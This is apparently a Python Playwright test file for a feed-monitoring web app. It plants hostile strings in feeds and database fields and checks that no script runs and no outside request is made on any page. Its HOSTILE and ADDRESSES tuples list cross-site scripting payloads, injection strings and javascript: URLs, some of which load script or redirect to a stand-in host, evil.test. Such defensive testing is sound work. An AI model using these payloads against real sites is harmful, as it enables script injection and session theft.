"""Hostile texts on every page, in a real browser: nothing of them runs, nothing is asked for elsewhere.

They come twice: as a feed, through the cleaning that a real one goes through, and written into the database as they
are, as if the cleaning had let them through.
"""

from __future__ import annotations

import json
import re
import sqlite3
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from html import escape
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Frame, Page

from pipeline import config as configuration
from pipeline.config import Config
from pipeline.run import Silent, run
from pipeline.store import Store
from tests.accounts import with_accounts
from tests.browser import browser, serving, sign_in  # noqa: F401
from tests.conftest import NOW, Site, rss, thread_tools, write_config

#: Each sets ``canary`` in its window or in the one around it, or asks another machine for something.
HOSTILE = (
    "<script>window.canary=1</script>",
    "<script src=//evil.test/x.js></script>",
    '"><img src=x onerror="window.canary=1">',
    "'><img src=x onerror='window.canary=1'>",
    "<svg onload=window.canary=1>",
    "<svg><script>window.canary=1</script></svg>",
    "<svg><animate onbegin=window.canary=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    '<iframe src="javascript:parent.canary=1"></iframe>',
    '<a href="javascript:window.canary=1">open</a>',
    '<a href=" &#106;avascript:window.canary=1">open</a>',
    "<details open ontoggle=window.canary=1>",
    "<input autofocus onfocus=window.canary=1>",
    "<video><source onerror=window.canary=1></video>",
    "<body onpageshow=window.canary=1>",
    "<style>@import url(//evil.test/x.css);</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<base href=//evil.test/>",
    '<meta http-equiv=refresh content="0;url=//evil.test/">',
    "<form action=//evil.test/><button>Sign in</button></form>",
    '<object data="data:text/html,<script>parent.canary=1</script>"></object>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.canary=1&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=window.canary=1>">',
    "</title></textarea></script></style>--><script>window.canary=1</script>",
    "]]><script>window.canary=1</script>",
    "&lt;script&gt;window.canary=1&lt;/script&gt;",
    "&amp;lt;img src=x onerror=window.canary=1&amp;gt;",
    "';window.canary=1;//\";window.canary=1;//`;window.canary=1;//\u2028window.canary=1",
    "{{ 7 * 191 }}{% print(7 * 191) %}${7 * 191}",
    "\u202egnp.exe\u202c \u2066\u200b\u200f\ufeff",
    '=HYPERLINK("http://evil.test/", "click")',
    "\x1b]8;;http://evil.test/\x07click\x1b]8;;\x07\n2026-11-23 ERROR forged",
)
ADDRESSES = (
    "javascript:window.canary=1",
    " JaVaScRiPt:window.canary=1",
    "java\tscript:window.canary=1",
    "data:text/html,<script>window.canary=1</script>",
    "vbscript:msgbox(1)",
    "//evil.test/",
    "http://[",
    'https://news.test/"onmouseover="window.canary=1',
)
#: Three to a page: each would do, wherever it was not escaped.
TOGETHER = tuple(" \n ".join(HOSTILE[at::11]) for at in range(11))
#: Something that is tagged, around each: a tagged text stands on more pages.
_TAGGED = "Lab 110 of North Korea, Pyongyang {} stole $41 million, said the Reconnaissance General Bureau"


@dataclass
class Watch:
    """A page, and what happened on it that must not."""

    page: Page
    address: str
    happened: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("dialog", self._asked_in_a_dialog)
        self.page.on("console", lambda said: self._heard(said.text) if said.type == "error" else None)
        self.page.on("pageerror", lambda error: self._heard(str(error)))
        self.page.on("request", lambda request: self._asked(request.url))
        self.page.on("popup", lambda popup: self.happened.append(f"popup {popup.url}"))

    def _asked_in_a_dialog(self, dialog: Dialog) -> None:
        self.happened.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _heard(self, text: str) -> None:
        if not text.startswith("Failed to load resource"):  # a status: that of each page is looked at
            self.happened.append(text)

    def _asked(self, url: str) -> None:
        if not url.startswith(self.address) and not url.startswith("data:image/"):
            self.happened.append(f"request {url}")

    def open(self, path: str, status: int = 200) -> None:
        """Open a page and look at what became of the texts on it."""
        answer = self.page.goto(f"{self.address}{path}", wait_until="load")
        assert answer is not None
        assert answer.status == status, path
        self.look()

    def look(self) -> None:
        """Nothing ran in any frame, nobody was led away, and no link is one that runs something."""
        assert [frame.url for frame in self.page.frames] == [self.page.url]
        assert not any(_canary(frame) for frame in self.page.frames)
        assert self.page.url.startswith(self.address)
        schemes = self.page.eval_on_selector_all("a[href]", "all => all.map(one => one.protocol)")
        assert set(schemes) <= {"http:", "https:", ":"}  # the last is of an address that cannot be read
        assert not self.page.locator("main script, section.content script:not([src])").count()
        assert self.happened == []


def _canary(frame: Frame) -> bool:
    return bool(frame.evaluate("'canary' in window"))


@pytest.fixture(scope="module")
def config(tmp_path_factory: pytest.TempPathFactory) -> Config:
    """The hostile texts, stored both ways; each field of an item has each of them, and so has what hangs on it."""
    folder = tmp_path_factory.mktemp("hostile")
    site = Site()
    entries = [(f"g{at}", escape(_TAGGED.format(text)), escape(text)) for at, text in enumerate(_clean(TOGETHER))]
    site.bodies["feed"] = rss(entries, title=escape(" ".join(_clean(HOSTILE))))
    site.bodies["copy"] = rss([(f"c{guid}", title, text) for guid, title, text in entries], title="Copies")
    plain = [(f"p{at}", f"Lab 110 strikes {at}", _TAGGED.format("again")) for at in range(len(TOGETHER))]
    site.bodies["raw"] = rss(plain, title="Raw")
    path = write_config(folder, {name: site.url(name) for name in ("feed", "copy", "raw")})
    loaded = configuration.load(path)
    with Store(loaded.database) as store:
        report = run(loaded, store, thread_tools(loaded), Silent(), threading.Event(), force=True)
    site.close()
    assert report.feeds_ok == 3
    _write_raw(loaded.database)
    with Store(loaded.database) as store:
        for item, text in zip(_raw_items(loaded.database), TOGETHER, strict=True):
            mention = store.items.history(item).mentions[0]["id"]  # type: ignore[union-attr]
            store.review.mark(item, "wrong_tag", mention_id=mention, reviewer=text, now=NOW, note=text)
            store.review.note(item, text, reviewer=text, now=NOW)
    return with_accounts(loaded)


def _clean(texts: tuple[str, ...]) -> list[str]:
    return [re.sub(r"[\x00-\x08\x0b-\x1f]", "", text) for text in texts]  # XML holds no others


def _raw_items(database: Path) -> list[int]:
    with sqlite3.connect(database) as db:
        return [row[0] for row in db.execute("SELECT id FROM items WHERE feed_id = 'raw' ORDER BY id")]


def _write_raw(database: Path) -> None:
    """Into every text of the items of one feed, past all cleaning; their mentions stay where they were."""
    with sqlite3.connect(database) as db:
        for at, (item, text) in enumerate(zip(_raw_items(database), TOGETHER, strict=True)):
            address = ADDRESSES[at % len(ADDRESSES)]
            db.execute(
                "UPDATE items SET title = title || ?, summary = summary || ?, content = ?, author = ?, url = ?,"
                " canonical_url = ?, guid = ?, language = ? WHERE id = ?",
                (text, text, text, text, address, address, text + str(at), text, item),
            )
            evidence = json.dumps({"sentence": text, "context": {text: text}, "feed_subject": [text]})
            db.execute("UPDATE mentions SET evidence = ?, rule = ? WHERE item_id = ?", (evidence, text, item))
            db.execute(
                "INSERT INTO item_versions (item_id, seen_at, title, summary, content, content_hash)"
                " SELECT id, '2026-11-20T00:00:00Z', 'before ' || ?, 'before', 'before', 'x' FROM items WHERE id = ?",
                (text, item),
            )
            db.execute(
                "UPDATE stories SET title = ? WHERE id = (SELECT story_id FROM items WHERE id = ?)", (text, item)
            )
        everything = " ".join(HOSTILE)
        db.execute("UPDATE feeds SET title = ?, last_error = ?, url = ? WHERE id = 'raw'",
                   (everything, everything, ADDRESSES[0]))  # fmt: skip
        db.execute("UPDATE fetches SET error = ?", (everything,))
        db.execute("UPDATE entities SET name = name || ?, description = ?", (HOSTILE[0], everything))
    db.close()


@pytest.fixture(scope="module")
def address(config: Config) -> Iterator[str]:
    """The pages over it."""
    with serving(config) as served:
        yield served


@pytest.fixture(scope="module")
def signed_in(browser: Browser, address: str) -> Iterator[BrowserContext]:
    """The profile of somebody who may review, and who sees all there is to see."""
    with browser.new_context() as context:
        page = context.new_page()
        sign_in(page, address)
        page.close()
        yield context


@pytest.fixture
def watch(signed_in: BrowserContext, address: str) -> Iterator[Watch]:
    """A page of theirs."""
    page = signed_in.new_page()
    yield Watch(page, address)
    page.close()


def test_the_canary_sings(browser: Browser) -> None:
    """What the other tests look for is found where a page has no policy and escapes nothing."""
    with browser.new_context() as context:
        page = context.new_page()
        page.set_content(f"<p>{HOSTILE[2]}</p>")
        page.wait_for_function("'canary' in window")
        assert _canary(page.main_frame)


def test_nothing_runs_on_the_pages_of_items(watch: Watch, config: Config) -> None:
    """Each text on its item's page; it is there to be read, as text."""
    for item, text in zip(_raw_items(config.database), TOGETHER, strict=True):
        watch.open(f"/-/item/{item}")
        assert _visible(text) in _visible(watch.page.locator("main").inner_text())
        for mark in watch.page.locator("main mark").all()[:2]:
            mark.hover()
        watch.look()


def _visible(text: str) -> str:
    return re.sub(r"[\s\x00-\x1f\u2028\u200b\ufeff]+", "", text)


def test_nothing_runs_on_the_pages_of_stories(watch: Watch, config: Config) -> None:
    """One story of each text, as it came through a feed twice and as it was written into the database."""
    with Store(config.database) as store:
        stories = [story["id"] for story in store.stories.list(least=1, limit=1000)]
    assert len(stories) > len(TOGETHER)
    for story in stories:
        watch.open(f"/-/story/{story}")


def test_nothing_runs_in_the_queue(watch: Watch, config: Config) -> None:
    """Moving through it by keyboard, each text opened, its proofs looked at."""
    watch.open("/-/queue")
    stories = watch.page.locator("[data-story]")
    assert stories.count()
    for _ in range(stories.count()):
        watch.page.keyboard.press("o")
        watch.page.wait_for_load_state("networkidle")
        for mark in watch.page.locator("mark:visible").all()[:1]:
            mark.hover()
        watch.look()
        watch.page.keyboard.press("j")
    for key in "w", "m", "?":
        watch.page.keyboard.press(key)
        watch.look()
        watch.page.keyboard.press("Escape")
    for item in _raw_items(config.database):
        watch.open(f"/-/queue/item/{item}")


@pytest.mark.parametrize(
    "path",
    [
        "/", "/-/stories", "/-/overview", "/-/rules", "/-/queue/more", "/-/queue?state=relevant", "/watchfloor",
        "/watchfloor/items?_size=max", "/watchfloor/stories?_size=max", "/watchfloor/mentions?_size=max",
        "/watchfloor/feeds", "/watchfloor/fetches", "/watchfloor/entities", "/watchfloor/verdicts?_size=max",
        "/watchfloor/notes?_size=max", "/watchfloor/item_versions?_size=max", "/watchfloor/items?_facet=author",
        "/watchfloor/items?_facet=language", "/watchfloor/today", "/watchfloor/feeds_in_trouble",
        "/watchfloor/audit_trail", "/watchfloor/search?words=lab", "/-/databases", "/-/metadata",
        "/watchfloor?sql=select+title,+url,+author+from+items",
        "/watchfloor?sql=select+title,+url,+author+from+items&_hide_sql=1",
    ],
)  # fmt: skip
def test_nothing_runs_on_the_other_pages(watch: Watch, path: str) -> None:
    """Ours and Datasette's own: tables, facets, canned queries, SQL."""
    watch.open(path)


def test_nothing_runs_on_datasettes_rows(watch: Watch, config: Config) -> None:
    """Each item's row, and that of its feed."""
    for item in _raw_items(config.database):
        watch.open(f"/watchfloor/items/{item}")
    watch.open("/watchfloor/feeds/raw")


def test_nothing_runs_where_a_lesson_is_learnt(watch: Watch, config: Config) -> None:
    """The proposals for each wrong tag: patterns made of its sentence."""
    with sqlite3.connect(config.database) as db:
        verdicts = [row[0] for row in db.execute("SELECT id FROM verdicts WHERE verdict = 'wrong_tag'")]
    db.close()
    for verdict in verdicts:
        watch.open(f"/-/lesson/{verdict}")


@pytest.mark.parametrize(
    "path",
    [
        "/-/queue?words={}", "/-/queue?entity={}&feed={}&language={}&day={}&state={}", "/-/sign-in?next={}",
        "/watchfloor/items?_search={}", "/watchfloor/items?author={}", "/watchfloor/items?_sort={}",
        "/watchfloor/search?words={}", "/watchfloor?sql=select+:x&x={}", "/-/allow-debug?actor={}",
    ],
)  # fmt: skip
def test_nothing_runs_from_an_address(watch: Watch, path: str) -> None:
    """What somebody was made to click on."""
    for text in (HOSTILE[0], HOSTILE[2], HOSTILE[23], HOSTILE[27]):
        answer = watch.page.goto(watch.address + path.format(*[quote(text)] * 5), wait_until="load")
        assert answer is not None
        assert answer.status < 500
        watch.look()
